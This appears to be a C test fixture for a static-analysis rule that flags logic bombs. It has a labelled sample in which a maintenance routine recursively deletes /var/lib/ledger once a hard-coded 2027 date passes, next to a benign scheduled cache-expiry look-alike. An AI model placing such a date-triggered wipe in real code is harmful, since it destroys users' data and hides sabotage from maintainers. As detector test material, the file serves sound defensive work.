/*
 * behavior.logic-bomb: the deletion runs in a callback nftw calls for every
 * entry of a data directory, and the walk starts only past a fixed date.
 * Look-alike: the same walk on a schedule (every run, entries older than a
 * week), with no date of its own.
 */
#define _XOPEN_SOURCE 700
#include <ftw.h>
#include <stdio.h>
#include <time.h>

static int wipe(const char *fpath, const struct stat *sb, int type, struct FTW *ftw)
{
    (void)sb;
    (void)type;
    (void)ftw;
    return remove(fpath); // $ Alert[behavior.logic-bomb]
}

void maintenance(void)
{
    if (time(NULL) >= 1798761600) /* 2027-01-01 */
        nftw("/var/lib/ledger", wipe, 16, FTW_DEPTH | FTW_PHYS);
}

static time_t now;

static int expire(const char *fpath, const struct stat *sb, int type, struct FTW *ftw)
{
    (void)ftw;
    if (type == FTW_F && now - sb->st_mtime > 7 * 24 * 3600)
        return remove(fpath);
    return 0;
}

void expire_cache(void)
{
    now = time(NULL);
    nftw("/var/cache/ledger", expire, 16, FTW_PHYS);
}
